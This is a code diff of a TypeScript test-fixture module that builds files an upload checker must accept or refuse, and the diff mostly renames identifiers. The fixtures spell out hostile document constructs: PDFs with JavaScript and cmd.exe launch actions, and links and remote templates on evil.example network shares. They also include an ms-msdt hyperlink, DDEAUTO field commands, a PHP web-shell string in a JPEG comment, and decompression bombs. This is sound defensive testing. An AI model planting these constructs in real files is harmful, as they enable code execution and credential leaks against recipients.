@@ -12,31 +12,31 @@ import { sampleZip } from './sample-zip.ts'
 /** A file that the product must refuse. `what` describes it in test titles; `refusal` is the answer to its sender. */
 export type AbuseFile = { what: string; name: string; bytes: Buffer; refusal: Refusal }
 /** A file that the product must accept, with the format that it must recognise. */
-export type GoodFile = { what: string; name: string; bytes: Buffer; format: FileFormat }
+export type AcceptedFile = { what: string; name: string; bytes: Buffer; format: FileFormat }
 
 /** The standard test virus. The literal is split so that no virus scanner reports this source file. */
 export const EICAR = Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`, 'latin1')
 
-/** A whole PDF object with a script, to be hidden where a reader that goes from top to bottom misses it. */
+/** A PDF object with a script. Tests hide it where a parser that reads from top to bottom would miss it. */
 const HIDDEN_OBJECT = '2 0 obj\n<< /S /JavaScript /JS (1) >>\nendobj'
 
 const PDF_SCRIPT = '<< /S /JavaScript /JS (1) >>'
 const PDF_LINK = '<< /S /URI /URI (https://adaeze.example) >>'
 
-/** Compresses PDF objects into one object stream, as most programs do. */
+/** Returns a PDF object stream: several PDF objects compressed together, as most programs write them. */
 function objectStream(
   objects: ReadonlyArray<readonly [number: number, object: string]>,
   { type = '/Type /ObjStm', first, filter = '/FlateDecode' }: { type?: string; first?: string; filter?: string } = {},
 ): string {
-  let before = 0
-  const offsets = objects.map(([number, object]) => {
-    const numberAndOffset = `${number} ${before}`
-    before += object.length + 1
+  let offset = 0
+  const numbersAndOffsets = objects.map(([number, object]) => {
+    const numberAndOffset = `${number} ${offset}`
+    offset += object.length + 1
     return numberAndOffset
   })
-  const list = `${offsets.join(' ')} `
-  const bytes = deflateSync(Buffer.from(`${list}${objects.map(([, object]) => object).join(' ')}`, 'latin1'))
-  const dictionary = `<< ${type} /N ${objects.length} /First ${first ?? list.length} /Filter ${filter} /Length ${bytes.length} >>`
+  const header = `${numbersAndOffsets.join(' ')} `
+  const bytes = deflateSync(Buffer.from(`${header}${objects.map(([, object]) => object).join(' ')}`, 'latin1'))
+  const dictionary = `<< ${type} /N ${objects.length} /First ${first ?? header.length} /Filter ${filter} /Length ${bytes.length} >>`
   return `${dictionary}\nstream\r\n${bytes.toString('latin1')}\nendstream`
 }
 
@@ -56,46 +56,50 @@ export function abuseFiles(): Array<AbuseFile> {
   return [...filesOfOtherFormats(), ...imageFiles(), ...pdfFiles(), ...docxFiles(), ...docFiles()]
 }
 
-function goodFile(what: string, name: string, bytes: Buffer): GoodFile {
+function acceptedFile(what: string, name: string, bytes: Buffer): AcceptedFile {
   const [format = ''] = /\w+$/.exec(name.toLowerCase()) ?? []
   return { what, name, bytes, format: format === 'jpg' ? 'jpeg' : (format as FileFormat) }
 }
 
-export function goodFiles(): Array<GoodFile> {
+export function acceptedFiles(): Array<AcceptedFile> {
   const script = Buffer.from('<script>document.title = "ran"</script>', 'latin1')
   const jpeg = sampleJpeg()
   const png = createSamplePng(16, 16)
   const pdf = createSamplePdf('Certificate')
   return [
-    goodFile('a JPEG', 'photo.jpg', jpeg),
-    goodFile('a progressive JPEG', 'photo.jpeg', sampleJpeg({ isProgressive: true })),
-    goodFile('a JPEG from a phone, with EXIF data', 'IMG_0412.JPG', sampleJpeg({ segments: [exifSegment(6)] })),
-    goodFile(
+    acceptedFile('a JPEG', 'photo.jpg', jpeg),
+    acceptedFile('a progressive JPEG', 'photo.jpeg', sampleJpeg({ isProgressive: true })),
+    acceptedFile('a JPEG from a phone, with EXIF data', 'IMG_0412.JPG', sampleJpeg({ segments: [exifSegment(6)] })),
+    acceptedFile(
       'a JPEG with a script in EXIF',
       'x.jpg',
       sampleJpeg({ segments: [segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), script]))] }),
     ),
-    goodFile('a JPEG that is also a ZIP', 'y.jpg', Buffer.concat([jpeg, sampleDocx()])),
-    goodFile(
+    acceptedFile('a JPEG that is also a ZIP', 'y.jpg', Buffer.concat([jpeg, sampleDocx()])),
+    acceptedFile(
       'a JPEG with PHP code in its comment',
       'z.jpg',
       sampleJpeg({ segments: [segment(0xfe, Buffer.from('<?php system($_GET[0]); ?>'))] }),
     ),
-    goodFile(
+    acceptedFile(
       'a JPEG with filling bytes between its segments',
       'camera.jpg',
       sampleJpeg({ segments: [segment(0xfe, Buffer.from('a')), Buffer.from([0xff, 0x01, 0xff, 0xff, 0xff])] }),
     ),
-    goodFile('a PNG', 'scan.png', png),
-    goodFile('a PNG with HTML after its end', 'scan2.png', Buffer.concat([png, script])),
-    goodFile(
+    acceptedFile('a PNG', 'scan.png', png),
+    acceptedFile('a PNG with HTML after its end', 'scan2.png', Buffer.concat([png, script])),
+    acceptedFile(
       'a PNG with HTML in a text chunk',
       'scan3.png',
       withPngChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), script])),
     ),
-    goodFile('a PDF', 'certificate.pdf', pdf),
-    goodFile('a PDF whose last block is filled with zeros', 'scanner.pdf', Buffer.concat([pdf, Buffer.alloc(70_000)])),
-    goodFile(
+    acceptedFile('a PDF', 'certificate.pdf', pdf),
+    acceptedFile(
+      'a PDF whose last block is filled with zeros',
+      'scanner.pdf',
+      Buffer.concat([pdf, Buffer.alloc(70_000)]),
+    ),
+    acceptedFile(
       'a PDF with an incremental update',
       'signed.pdf',
       Buffer.concat([
@@ -105,13 +109,13 @@ export function goodFiles(): Array<GoodFile> {
         ),
       ]),
     ),
-    goodFile('a PDF with HTML after its end', 'page.pdf', Buffer.concat([pdf, script])),
-    goodFile(
+    acceptedFile('a PDF with HTML after its end', 'page.pdf', Buffer.concat([pdf, script])),
+    acceptedFile(
       'a CV that names JavaScript among the skills',
       'cv.pdf',
       createSamplePdf('HTML/JavaScript/Launch', ['Works with /JavaScript']),
     ),
-    goodFile(
+    acceptedFile(
       'a PDF with links on its page',
       'links.pdf',
       pdfWith(
@@ -120,7 +124,7 @@ export function goodFiles(): Array<GoodFile> {
         PDF_LINK,
       ),
     ),
-    goodFile(
+    acceptedFile(
       'a PDF with an object stream that opens at a certain page',
       'thesis.pdf',
       pdfWith(
@@ -134,15 +138,19 @@ export function goodFiles(): Array<GoodFile> {
         '<< /N 3 /Alternate /DeviceRGB /Length 2 >>\nstream\n/J\nendstream',
       ),
     ),
-    goodFile(
+    acceptedFile(
       'a PDF with the highest number of packed objects that we read',
       'book.pdf',
       pdfWith(objectStream(manyObjects(10_000))),
     ),
-    goodFile('a PDF that a browser printed', 'page2.pdf', readSampleFile('printed-by-chromium.pdf')),
-    goodFile('a PDF with links in object streams', 'x.pdf', readSampleFile('object-streams.pdf')),
-    goodFile('a PDF of version 2.0', 'x2.pdf', withTextReplaced(readSampleFile('object-streams.pdf'), '1.7', '2.0')),
-    goodFile(
+    acceptedFile('a PDF that a browser printed', 'page2.pdf', readSampleFile('printed-by-chromium.pdf')),
+    acceptedFile('a PDF with links in object streams', 'x.pdf', readSampleFile('object-streams.pdf')),
+    acceptedFile(
+      'a PDF of version 2.0',
+      'x2.pdf',
+      withTextReplaced(readSampleFile('object-streams.pdf'), '1.7', '2.0'),
+    ),
+    acceptedFile(
       'a PDF with links to files on its author’s disk and to websites',
       'links2.pdf',
       pdfWith(
@@ -152,8 +160,8 @@ export function goodFiles(): Array<GoodFile> {
         '(https://a.b)',
       ),
     ),
-    goodFile('a DOCX', 'cv.docx', sampleDocx()),
-    goodFile(
+    acceptedFile('a DOCX', 'cv.docx', sampleDocx()),
+    acceptedFile(
       'a DOCX with a picture pasted from the web and a mailto link',
       'cv5.docx',
       sampleDocx({
@@ -161,20 +169,20 @@ export function goodFiles(): Array<GoodFile> {
         settings: relation('hyperlink', 'mailto:ada@adaeze.example', { isExternal: true }),
       }),
     ),
-    goodFile(
+    acceptedFile(
       'a DOC with page numbers',
       'letter4.doc',
       sampleDoc({ text: '\x13 PAGE \x142\x15 \x13HYPERLINK "https://a.b/dde "\x14DDEAUTO\x15 is a field' }),
     ),
-    goodFile('a DOCX of Word on the web', 'cv2.docx', sampleDocx({ mainPart: 'word/document2.xml' })),
-    goodFile(
+    acceptedFile('a DOCX of Word on the web', 'cv2.docx', sampleDocx({ mainPart: 'word/document2.xml' })),
+    acceptedFile(
       'a DOCX made from a template on its author’s disk',
       'cv3.docx',
       sampleDocx({
         settings: relation('attachedTemplate', 'file:///C:\\Users\\Ada\\Resume.dotx', { isExternal: true }),
       }),
     ),
-    goodFile(
+    acceptedFile(
       'a DOCX with links, a chart and page numbers',
       'report.docx',
       sampleDocx({
@@ -183,20 +191,20 @@ export function goodFiles(): Array<GoodFile> {
         more: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', bytes: sampleZip([]) }],
       }),
     ),
-    goodFile('a DOCX that declares its type for every part', 'cv4.docx', docxTypedByDefault()),
-    goodFile('a DOC whose last sector is not full', 'letter3.doc', sampleDoc().subarray(0, -300)),
-    goodFile('a DOC', 'letter.doc', sampleDoc()),
-    goodFile(
+    acceptedFile('a DOCX that declares its type for every part', 'cv4.docx', docxTypedByDefault()),
+    acceptedFile('a DOC whose last sector is not full', 'letter3.doc', sampleDoc().subarray(0, -300)),
+    acceptedFile('a DOC', 'letter.doc', sampleDoc()),
+    acceptedFile(
       'a DOC with a picture pasted from the web',
       'letter4.doc',
       sampleDoc({ text: '\x13 INCLUDEPICTURE "https://a.b/\\dot.png" \\* MERGEFORMATINET \x14a\x15' }),
     ),
-    goodFile(
+    acceptedFile(
       'a DOC with an Excel table in it',
       'letter2.doc',
       sampleDoc({ more: { 'ObjectPool/_1/Workbook': Buffer.alloc(4096) } }),
     ),
-    goodFile(
+    acceptedFile(
       'a short DOC',
       'note.doc',
       sampleCompoundFile({ CompObj: Buffer.alloc(700), WordDocument: wordStream({ size: 1024 }) }),
@@ -212,7 +220,7 @@ function withTextReplaced(bytes: Buffer, before: string, after: string): Buffer 
   return Buffer.from(bytes.toString('latin1').replace(before, after), 'latin1')
 }
 
-/** A link annotation of a PDF with this target. */
+/** Returns a link annotation of a PDF that leads to `target`. */
 function pdfLinkTo(target: string): string {
   return `<< /Type /Annot /Subtype /Link /A << /S /URI /URI ${target} >> >>`
 }
@@ -220,9 +228,9 @@ function pdfLinkTo(target: string): string {
 export function pdfOfSize(size: number): Buffer {
   const pdf = createSamplePdf('Large')
   const end = Buffer.from('\nstartxref\n0\n%%EOF\n')
-  const filler = Buffer.alloc(size - pdf.length - end.length, 'x')
-  filler.write('%')
-  return Buffer.concat([pdf, filler, end])
+  const comment = Buffer.alloc(size - pdf.length - end.length, 'x')
+  comment.write('%')
+  return Buffer.concat([pdf, comment, end])
 }
 
 function filesOfOtherFormats(): Array<AbuseFile> {
@@ -366,7 +374,7 @@ function imageFiles(): Array<AbuseFile> {
 }
 
 function pdfFiles(): Array<AbuseFile> {
-  const pdfHolding = (object: string, trailer = '/Root 1 0 R') =>
+  const pdfContaining = (object: string, trailer = '/Root 1 0 R') =>
     Buffer.from(
       `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n${object}\nendobj\ntrailer\n<< ${trailer} >>\nstartxref\n9\n%%EOF\n`,
       'latin1',
@@ -376,121 +384,123 @@ function pdfFiles(): Array<AbuseFile> {
       'only the beginning of a PDF': Buffer.from('%PDF-1.7\n'),
       'the beginning of a PDF, then HTML': Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
       'a PDF cut off': createSamplePdf('Statement').subarray(0, -40),
-      'a PDF without a root': pdfHolding('<< >>', '/Size 2'),
+      'a PDF without a root': pdfContaining('<< >>', '/Size 2'),
       'a PDF with a ZIP after it': Buffer.concat([
         createSamplePdf('Statement'),
         sampleDocx({ more: [{ name: 'word/a.bin', bytes: Buffer.alloc(4000, 'a'), isStored: true }] }),
       ]),
-      'a PDF cut off within a stream': pdfHolding('<< /Length 3 >>\nstream\nabc'),
-      'a PDF cut off within a string': pdfHolding('<< /T (abc >>'),
+      'a PDF cut off within a stream': pdfContaining('<< /Length 3 >>\nstream\nabc'),
+      'a PDF cut off within a string': pdfContaining('<< /T (abc >>'),
     }),
     ...abuseFilesNamed('statement.pdf', 'has-password', {
-      'a PDF with a password': pdfHolding('<< >>', '/Root 1 0 R /Encrypt 5 0 R'),
-      'a PDF with a password in its cross-reference stream': pdfHolding(
+      'a PDF with a password': pdfContaining('<< >>', '/Root 1 0 R /Encrypt 5 0 R'),
+      'a PDF with a password in its cross-reference stream': pdfContaining(
         '<< /Type /XRef /Encrypt 5 0 R /Length 0 >>\nstream\n\nendstream',
       ),
     }),
     ...abuseFilesNamed('statement.pdf', 'has-script', {
-      'a PDF that runs a script': pdfHolding('<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
-      'a PDF that spells JavaScript with escapes': pdfHolding('<< /OpenAction << /S /J#61va#53cript /JS (1) >> >>'),
-      'a PDF that hides a script behind a string': pdfHolding('<< /T (a \\( b (c) %) /S/JavaScript/JS(1) >>'),
-      'a PDF that hides a script behind a comment': pdfHolding('<< % (\n/S /JavaScript /JS (1) >>'),
-      'a PDF that hides a script behind a stream': pdfHolding(
+      'a PDF that runs a script': pdfContaining('<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
+      'a PDF that spells JavaScript with escapes': pdfContaining('<< /OpenAction << /S /J#61va#53cript /JS (1) >> >>'),
+      'a PDF that hides a script behind a string': pdfContaining('<< /T (a \\( b (c) %) /S/JavaScript/JS(1) >>'),
+      'a PDF that hides a script behind a comment': pdfContaining('<< % (\n/S /JavaScript /JS (1) >>'),
+      'a PDF that hides a script behind a stream': pdfContaining(
         '<< /Length 9 >>\nstream\n(\xff>>stream\nendstream\nendobj\n2 0 obj\n<< /S /JavaScript >>',
       ),
-      'a PDF with a script in a stream that never ends': pdfHolding(`<< /Length 3 >>stream\n${HIDDEN_OBJECT}`),
-      'a PDF with a script in a string that never ends': pdfHolding(`(\nendobj\n${HIDDEN_OBJECT}`),
-      'a PDF with a script within a stream': pdfHolding(
+      'a PDF with a script in a stream that never ends': pdfContaining(`<< /Length 3 >>stream\n${HIDDEN_OBJECT}`),
+      'a PDF with a script in a string that never ends': pdfContaining(`(\nendobj\n${HIDDEN_OBJECT}`),
+      'a PDF with a script within a stream': pdfContaining(
         `<< /Filter /FlateDecode >>\nstream\n${HIDDEN_OBJECT}\nendstream`,
       ),
-      'a PDF with a script in a comment': pdfHolding(`<< >>\n% ${HIDDEN_OBJECT.replaceAll('\n', ' ')}`),
-      'a PDF with a script in an object stream that is not compressed': pdfHolding(
+      'a PDF with a script in a comment': pdfContaining(`<< >>\n% ${HIDDEN_OBJECT.replaceAll('\n', ' ')}`),
+      'a PDF with a script in an object stream that is not compressed': pdfContaining(
         '<< /Filter /A >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n3 0 << /S /JavaScript >>\nendstream',
       ),
-      'a bomb: many names before many streams': pdfHolding(
+      'a bomb: many names before many streams': pdfContaining(
         `<< /S /JavaScript ${'/A'.repeat(250_000)} >>\n${'>>stream endstream '.repeat(27_000)}`,
       ),
-      'a PDF that starts a program': pdfHolding('<< /S /Launch /F (cmd.exe) >>'),
-      'a PDF with a file in it': pdfHolding('<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream'),
-      'a PDF with a media player in it': pdfHolding('<< /Subtype /RichMedia >>'),
-      'a PDF with a list of attached files': pdfHolding('<< /Names << /EmbeddedFiles 7 0 R >> >>'),
-      'a PDF with an attached file of no type': pdfHolding('<< /F (a.exe) /EF << /F 7 0 R >> >>'),
-      'a PDF that submits its form': pdfHolding('<< /OpenAction << /S /SubmitForm /F (https://e.example) >> >>'),
-      'a PDF that imports form data from a network share': pdfHolding('<< /S /ImportData /F (\\\\\\\\e\\\\share) >>'),
-      'a PDF that opens a file on a network share': pdfHolding('<< /S /GoToR /F (\\\\\\\\e\\\\share) >>'),
-      'a PDF that opens a file attached to it': pdfHolding('<< /S /GoToE /T << /R /C >> >>'),
-      'a PDF with an action when a page opens': pdfHolding('<< /Type /Page /AA << /O << /S /GoTo >> >> >>'),
-      'a PDF that opens a website': pdfHolding('<< /OpenAction << /S /URI /URI (https://e.example) >> >>'),
-      'a PDF that opens a website through another object': pdfHolding(
+      'a PDF that starts a program': pdfContaining('<< /S /Launch /F (cmd.exe) >>'),
+      'a PDF with a file in it': pdfContaining('<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream'),
+      'a PDF with a media player in it': pdfContaining('<< /Subtype /RichMedia >>'),
+      'a PDF with a list of attached files': pdfContaining('<< /Names << /EmbeddedFiles 7 0 R >> >>'),
+      'a PDF with an attached file of no type': pdfContaining('<< /F (a.exe) /EF << /F 7 0 R >> >>'),
+      'a PDF that submits its form': pdfContaining('<< /OpenAction << /S /SubmitForm /F (https://e.example) >> >>'),
+      'a PDF that imports form data from a network share': pdfContaining(
+        '<< /S /ImportData /F (\\\\\\\\e\\\\share) >>',
+      ),
+      'a PDF that opens a file on a network share': pdfContaining('<< /S /GoToR /F (\\\\\\\\e\\\\share) >>'),
+      'a PDF that opens a file attached to it': pdfContaining('<< /S /GoToE /T << /R /C >> >>'),
+      'a PDF with an action when a page opens': pdfContaining('<< /Type /Page /AA << /O << /S /GoTo >> >> >>'),
+      'a PDF that opens a website': pdfContaining('<< /OpenAction << /S /URI /URI (https://e.example) >> >>'),
+      'a PDF that opens a website through another object': pdfContaining(
         `<< /OpenAction 12 0 R >>\nendobj\n12 0 obj\n${PDF_LINK}`,
       ),
-      'a PDF that opens a website after its own page': pdfHolding(
+      'a PDF that opens a website after its own page': pdfContaining(
         '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >> >>',
       ),
-      'a PDF with a script in an object stream': pdfHolding(objectStream([[2, PDF_SCRIPT]])),
-      'a PDF with a script behind a string in an object stream': pdfHolding(
+      'a PDF with a script in an object stream': pdfContaining(objectStream([[2, PDF_SCRIPT]])),
+      'a PDF with a script behind a string in an object stream': pdfContaining(
         objectStream([
           [2, '(Works \\) with (Java))'],
           [3, PDF_SCRIPT],
         ]),
       ),
-      'a PDF that opens a website from an object stream': pdfHolding(
+      'a PDF that opens a website from an object stream': pdfContaining(
         objectStream([
           [2, '<< /OpenAction 13 0 R >>'],
           [13, PDF_LINK],
         ]),
       ),
-      'a PDF with an object stream of no type': pdfHolding(objectStream([[2, PDF_SCRIPT]], { type: '' })),
-      'a PDF with a file attached to a page': pdfHolding('<< /Subtype /FileAttachment /FS 9 0 R >>'),
-      'a PDF with a list of attached files in an object stream': pdfHolding(
+      'a PDF with an object stream of no type': pdfContaining(objectStream([[2, PDF_SCRIPT]], { type: '' })),
+      'a PDF with a file attached to a page': pdfContaining('<< /Subtype /FileAttachment /FS 9 0 R >>'),
+      'a PDF with a list of attached files in an object stream': pdfContaining(
         objectStream([[2, '<< /Names << /EmbeddedFiles 9 0 R >> >>']]),
       ),
-      'a PDF that starts a program from an object stream': pdfHolding(
+      'a PDF that starts a program from an object stream': pdfContaining(
         objectStream([[2, '<< /S /Launch /F (a.exe) >>']]),
       ),
-      'a PDF with a form field that runs a script': pdfHolding(
+      'a PDF with a form field that runs a script': pdfContaining(
         '<< /AcroForm << /Fields [<< /FT /Tx /AA << /K << /S /JavaScript /JS 9 0 R >> >> >>] >> >>',
       ),
-      'a PDF with a link to a network share': pdfHolding(pdfLinkTo('(\\\\\\\\evil.example\\\\a)')),
-      'a PDF with a link to a network share in octal': pdfHolding(pdfLinkTo('(\\134\\134evil.example/a)')),
-      'a PDF with a link to a network share in hexadecimal': pdfHolding(pdfLinkTo('<5C5C 6576696C2F61>')),
-      'a PDF with a link to a network share as a file URL': pdfHolding(pdfLinkTo('(file://evil.example/a)')),
-      'a PDF with a link to a network share through another object': pdfHolding(
+      'a PDF with a link to a network share': pdfContaining(pdfLinkTo('(\\\\\\\\evil.example\\\\a)')),
+      'a PDF with a link to a network share in octal': pdfContaining(pdfLinkTo('(\\134\\134evil.example/a)')),
+      'a PDF with a link to a network share in hexadecimal': pdfContaining(pdfLinkTo('<5C5C 6576696C2F61>')),
+      'a PDF with a link to a network share as a file URL': pdfContaining(pdfLinkTo('(file://evil.example/a)')),
+      'a PDF with a link to a network share through another object': pdfContaining(
         `${pdfLinkTo('12 0 R')}\nendobj\n12 0 obj\n(\\\\\\\\evil.example\\\\a)`,
       ),
-      'a PDF with a link to a network share in an object stream': pdfHolding(
+      'a PDF with a link to a network share in an object stream': pdfContaining(
         objectStream([
           [2, pdfLinkTo('13 0 R')],
           [13, '<5C5C6576696C5C61>'],
         ]),
       ),
-      'a PDF with an XFA form': pdfHolding('<< /AcroForm << /XFA 5 0 R >> >>'),
+      'a PDF with an XFA form': pdfContaining('<< /AcroForm << /XFA 5 0 R >> >>'),
     }),
     ...abuseFilesNamed('statement.pdf', 'cannot-be-checked', {
-      'a PDF with a packed object that begins within the string of another': pdfHolding(
+      'a PDF with a packed object that begins within the string of another': pdfContaining(
         objectStream([
           [2, '(<< /S /GoTo'],
           [3, '>>) (a)'],
         ]),
       ),
-      'a PDF with an object stream whose offset is a reference': pdfHolding(
+      'a PDF with an object stream whose offset is a reference': pdfContaining(
         objectStream([[2, 'true']], { first: '1 0 R' }),
       ),
-      'a PDF with an object stream that gives its count twice': pdfHolding(
+      'a PDF with an object stream that gives its count twice': pdfContaining(
         objectStream([[2, 'true']], { type: '/N 1' }),
       ),
-      'a PDF with an object stream that is compressed twice': pdfHolding(
+      'a PDF with an object stream that is compressed twice': pdfContaining(
         objectStream([[2, PDF_SCRIPT]], { filter: '[/FlateDecode /ASCIIHexDecode]' }),
       ),
-      'a PDF with a broken object stream': pdfHolding(objectStream([[2, 'true']]).replace('x\x9c', 'y\x9c')),
-      'a bomb: forty megabytes of packed objects': pdfHolding(objectStream([[2, ' '.repeat(40_000_000)]])),
-      'a bomb: object streams of thirty megabytes, many times': pdfHolding(
+      'a PDF with a broken object stream': pdfContaining(objectStream([[2, 'true']]).replace('x\x9c', 'y\x9c')),
+      'a bomb: forty megabytes of packed objects': pdfContaining(objectStream([[2, ' '.repeat(40_000_000)]])),
+      'a bomb: object streams of thirty megabytes, many times': pdfContaining(
         Array<string>(20)
           .fill(objectStream([[2, ' '.repeat(30_000_000)]]))
           .join('\nendobj\n5 0 obj\n'),
       ),
-      'a bomb: an object stream of too many objects': pdfHolding(objectStream(manyObjects(10_001))),
-      'a bomb: too many objects in many streams': pdfHolding(
+      'a bomb: an object stream of too many objects': pdfContaining(objectStream(manyObjects(10_001))),
+      'a bomb: too many objects in many streams': pdfContaining(
         Array<string>(21)
           .fill(objectStream(manyObjects(10_000)))
           .join('\nendobj\n5 0 obj\n'),
@@ -500,29 +510,35 @@ function pdfFiles(): Array<AbuseFile> {
 }
 
 function docxFiles(): Array<AbuseFile> {
-  const types = (content: string) =>
+  const docxWithTypes = (content: string) =>
     sampleZip([{ name: '[Content_Types].xml', bytes: content }, ...docxEntries().slice(1)])
   const entries = docxEntries()
-  const external = (kind: string, target: string) =>
+  const docxWithExternalRelation = (kind: string, target: string) =>
     sampleDocx({ settings: relation(kind, target, { isExternal: true }) })
-  const office = 'application/vnd.openxmlformats-officedocument'
+  const officeTypePrefix = 'application/vnd.openxmlformats-officedocument'
   return [
     ...abuseFilesNamed('cv.docx', 'type-not-allowed', {
-      'an Excel table': sampleDocx({ mainType: `${office}.spreadsheetml.sheet.main+xml` }),
-      'a PowerPoint presentation': sampleDocx({ mainType: `${office}.presentationml.presentation.main+xml` }),
+      'an Excel table': sampleDocx({ mainType: `${officeTypePrefix}.spreadsheetml.sheet.main+xml` }),
+      'a PowerPoint presentation': sampleDocx({ mainType: `${officeTypePrefix}.presentationml.presentation.main+xml` }),
       'a Word template': sampleDocx({ mainType: WORD_TYPE.replace('document.main', 'template.main') }),
     }),
     ...abuseFilesNamed('cv.docx', 'has-macros', {
       'a DOCM': sampleDocx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
       'a DOCX with macros': sampleDocx({ more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] }),
-      'a DOCX with macros under another name': types(
+      'a DOCX with macros under another name': docxWithTypes(
         `<Types><Override PartName="/word/document.xml" ContentType="${WORD_TYPE}"/><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
       ),
     }),
     ...abuseFilesNamed('cv.docx', 'needs-outside-files', {
-      'a DOCX with a template from a website': external('attachedTemplate', 'https://evil.example/t.dotm'),
-      'a DOCX with a template on a network share': external('attachedTemplate', '\\\\evil.example\\t.dotm'),
-      'a DOCX with a template on a network share as a file URL': external(
+      'a DOCX with a template from a website': docxWithExternalRelation(
+        'attachedTemplate',
+        'https://evil.example/t.dotm',
+      ),
+      'a DOCX with a template on a network share': docxWithExternalRelation(
+        'attachedTemplate',
+        '\\\\evil.example\\t.dotm',
+      ),
+      'a DOCX with a template on a network share as a file URL': docxWithExternalRelation(
         'attachedTemplate',
         'file://evil.example/t.dotm',
       ),
@@ -554,10 +570,10 @@ function docxFiles(): Array<AbuseFile> {
           },
         ],
       }),
-      'a DOCX with a linked picture from a website': external('image', 'https://evil.example/a.png'),
-      'a DOCX with a picture on a network share': external('image', 'file://evil.example/a.png'),
-      'a DOCX with a video from a website': external('video', 'https://evil.example/a'),
-      'a DOCX with a link to a network share': external('hyperlink', '%5C%5Cevil.example\\a'),
+      'a DOCX with a linked picture from a website': docxWithExternalRelation('image', 'https://evil.example/a.png'),
+      'a DOCX with a picture on a network share': docxWithExternalRelation('image', 'file://evil.example/a.png'),
+      'a DOCX with a video from a website': docxWithExternalRelation('video', 'https://evil.example/a'),
+      'a DOCX with a link to a network share': docxWithExternalRelation('hyperlink', '%5C%5Cevil.example\\a'),
       'a DOCX with XML names outside ASCII': sampleDocx({ settings: relationWithNonAsciiNames() }),
       ...Object.fromEntries(
         fieldsThatFetchFromWeb().map(code => [`a DOCX with the field ${code}`, sampleDocx({ text: wordField(code) })]),
@@ -575,8 +591,11 @@ function docxFiles(): Array<AbuseFile> {
       'a DOCX with an ActiveX control in two parts': sampleDocx({
         settings: relation('activeXControlBinary', 'activeX1.bin'),
       }),
-      'a DOCX with a link that starts a program': external('hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force'),
-      'a DOCX with a link that opens a search': external(
+      'a DOCX with a link that starts a program': docxWithExternalRelation(
+        'hyperlink',
+        'ms-msdt:/id PCWDiagnostic /skip force',
+      ),
+      'a DOCX with a link that opens a search': docxWithExternalRelation(
         'hyperlink',
         'Search-ms&#58;query=a&amp;crumb=location:\\\\evil.example',
       ),
@@ -659,7 +678,7 @@ function docxFiles(): Array<AbuseFile> {
       'a bomb: a ZIP directory with two megabytes of extra fields': sampleDocx({
         more: Array.from({ length: 32 }, (_, index) => ({ name: `word/${index}.xml`, extra: Buffer.alloc(65_532) })),
       }),
-      'a bomb: a [Content_Types].xml of a megabyte': types(`<Types>${' '.repeat(1_000_000)}</Types>`),
+      'a bomb: a [Content_Types].xml of a megabyte': docxWithTypes(`<Types>${' '.repeat(1_000_000)}</Types>`),
       'a bomb: a .rels file of two megabytes': sampleDocx({ settings: ' '.repeat(2_000_000) }),
       'a DOCX whose [Content_Types].xml is larger than declared': docxWithWrongTypesSize(),
       'a DOCX with a wrong ZIP64 locator': withWrongZip64Locator(sampleDocx()),
@@ -683,8 +702,8 @@ function docFiles(): Array<AbuseFile> {
     copy.writeUInt32LE(value, at)
     return copy
   }
-  const directory = (doc.readUInt32LE(48) + 1) * 512
-  const tableAt = (doc.readUInt32LE(76) + 1) * 512
+  const directoryOffset = (doc.readUInt32LE(48) + 1) * 512
+  const sectorTableOffset = (doc.readUInt32LE(76) + 1) * 512
   return [
     ...abuseFilesNamed('letter.doc', 'type-not-allowed', {
       'an Excel 97 table': sampleCompoundFile({ Workbook }),
@@ -693,7 +712,7 @@ function docFiles(): Array<AbuseFile> {
         'MBD001/WordDocument': wordStream(),
       }),
       'an Outlook message': sampleCompoundFile({ '__properties_version1.0': Buffer.alloc(64) }),
-      'a DOC whose root is its own child': withUint32(directory + 76, 0),
+      'a DOC whose root is its own child': withUint32(directoryOffset + 76, 0),
     }),
     ...abuseFilesNamed('letter.doc', 'has-password', {
       'a DOCX with a password': sampleCompoundFile({
@@ -741,8 +760,11 @@ function docFiles(): Array<AbuseFile> {
       'a DOC with a sector table larger than the file': withUint32(44, 0xffffffff),
       'a DOC whose sector table is beyond the end of the file': withUint32(76, 0x00ffffff),
       'a DOC whose directory is beyond the end of the file': withUint32(48, 0x7fffffff),
-      'a DOC whose directory has no root': withFlippedByte(doc, directory + 66),
-      'a DOC whose directory chain is a loop': withUint32(tableAt + doc.readUInt32LE(48) * 4, doc.readUInt32LE(48)),
+      'a DOC whose directory has no root': withFlippedByte(doc, directoryOffset + 66),
+      'a DOC whose directory chain is a loop': withUint32(
+        sectorTableOffset + doc.readUInt32LE(48) * 4,
+        doc.readUInt32LE(48),
+      ),
       'a DOC whose text is in an endless chain of sectors': docWithEndlessChain(),
     }),
   ]
@@ -761,10 +783,10 @@ function fieldsThatFetchFromWeb(): Array<string> {
 }
 
 function commandFields(): Array<{ what: string; text: string }> {
-  const inOneElement = '<w:fldSimple w:dirty="true" w:instr=" ddeauto excel a b "><w:r/></w:fldSimple>'
-  const splitOverRuns =
+  const commandInOneElement = '<w:fldSimple w:dirty="true" w:instr=" ddeauto excel a b "><w:r/></w:fldSimple>'
+  const commandSplitOverRuns =
     '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c</w:instrText></w:r>'
-  const escaped = '<w:instrText>&#68;<!-- -->D<![CDATA[E]]> excel a b</w:instrText>'
